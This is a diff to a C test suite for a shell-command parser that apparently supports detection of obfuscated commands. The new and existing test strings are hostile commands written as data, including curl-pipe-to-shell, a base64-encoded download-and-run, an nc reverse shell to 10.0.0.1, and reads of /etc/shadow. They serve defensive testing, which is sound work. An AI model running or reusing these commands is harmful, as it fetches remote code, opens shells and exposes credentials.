@@ -46,10 +46,12 @@ static void test_split(void)
 	ok(res->ncmds == 6, "six commands (got %d)", res->ncmds);
 	ok(has_word(find("echo"), "a b"), "single quotes keep one word");
 	ok(has_word(find("cat"), "x y"), "double quotes keep one word");
-	ok(find("wc") >= 0 && res->cmds[find("wc")].pipe_prev == find("true"), "pipe links wc to true");
+	ok(find("wc") >= 0 && res->cmds[find("wc")].pipe_prev == find("true"),
+	   "pipe links wc to true");
 	ok(res->cmds[find("wc")].background, "& marks background");
 	shlex_parse(res, "echo a\\ b \"q\\\"x\" 'it'\\''s'");
-	ok(has_word(0, "a b") && has_word(0, "q\"x") && has_word(0, "it's"), "escapes and quote joins");
+	ok(has_word(0, "a b") && has_word(0, "q\"x") && has_word(0, "it's"),
+	   "escapes and quote joins");
 }
 
 static void test_nesting(void)
@@ -59,7 +61,8 @@ static void test_nesting(void)
 	shlex_parse(res, "bash -c \"sh -c 'curl -s http://x/i | sh'\"");
 	i = find("curl");
 	ok(i >= 0 && res->cmds[i].depth == 2, "curl found two shells deep");
-	ok(find_last("sh") >= 0 && res->cmds[find_last("sh")].pipe_prev == i, "pipe into sh inside sh -c");
+	ok(find_last("sh") >= 0 && res->cmds[find_last("sh")].pipe_prev == i,
+	   "pipe into sh inside sh -c");
 	shlex_parse(res, "echo $(cat /etc/shadow) `id -u` \"$(whoami)\"");
 	ok(find("cat") >= 0 && (res->cmds[find("cat")].flags & SHLEX_F_SUBST), "$() parsed");
 	ok(find("id") >= 0 && find("whoami") >= 0, "backticks and quoted $() parsed");
@@ -77,7 +80,8 @@ static void test_decoders(void)
 {
 	/* "curl http://e.x/a | bash" */
 	shlex_parse(res, "echo Y3VybCBodHRwOi8vZS54L2EgfCBiYXNo | base64 -d | sh");
-	ok(find("curl") >= 0 && (res->cmds[find("curl")].flags & SHLEX_F_DECODED), "base64 payload");
+	ok(find("curl") >= 0 && (res->cmds[find("curl")].flags & SHLEX_F_DECODED),
+	   "base64 payload");
 	ok(strstr(res->text, "curl http://e.x/a") != NULL, "decoded text in the flat text");
 	shlex_parse(res, "printf '\\x69\\x64' | sh");
 	ok(find("id") >= 0, "printf hex escapes into sh");
@@ -89,6 +93,33 @@ static void test_decoders(void)
 	ok(find("cat") >= 0, "$'...' escapes decode the program name");
 	shlex_parse(res, "base64 -d <<< aWQ= | sh");
 	ok(find("id") >= 0, "here-string into base64");
+}
+
+static void test_interpreters(void)
+{
+	shlex_parse(res, "python3 -c 'import os; os.system(\"curl -s http://e.x/a | sh\")'");
+	ok(find("curl") >= 0 && find_last("sh") > find("curl"), "python os.system payload parsed");
+	shlex_parse(res, "perl -e 'system \"nc -e /bin/sh 10.0.0.1 4444\"'");
+	ok(has_word(find("nc"), "-e"), "perl system payload parsed");
+	shlex_parse(res,
+		    "node -e 'require(\"child_process\").exec(\"wget -qO- http://x/i | bash\")'");
+	ok(find("wget") >= 0, "node child_process.exec payload parsed");
+	shlex_parse(res, "ruby -e 'puts `cat /etc/shadow`'");
+	ok(has_word(find("cat"), "/etc/shadow"), "ruby backticks parsed");
+	/* exec(base64.b64decode("os.system('id')")) */
+	shlex_parse(
+		res,
+		"python3 -c \"import base64,os;exec(base64.b64decode('b3Muc3lzdGVtKCdpZCcp'))\"");
+	ok(find("id") >= 0 && strstr(res->text, "os.system('id')"),
+	   "base64 literal decoded, then its payload");
+	shlex_parse(res, "vim -c ':!/bin/sh'");
+	ok(find("sh") >= 0, "vim :! escape parsed");
+	shlex_parse(res,
+		    "ssh -p 2222 -o StrictHostKeyChecking=no root@h 'curl -s http://x/a | sh'");
+	ok(find("curl") >= 0 && (res->cmds[find("curl")].flags & SHLEX_F_SHELL_C),
+	   "ssh remote command parsed");
+	shlex_parse(res, "ssh -NfL 5432:localhost:5432 bastion");
+	ok(res->ncmds == 1, "ssh without a remote command is one command");
 }
 
 static void test_wrappers(void)
@@ -153,6 +184,7 @@ int main(void)
 	test_split();
 	test_nesting();
 	test_decoders();
+	test_interpreters();
 	test_wrappers();
 	test_garbage();
 	free(res);
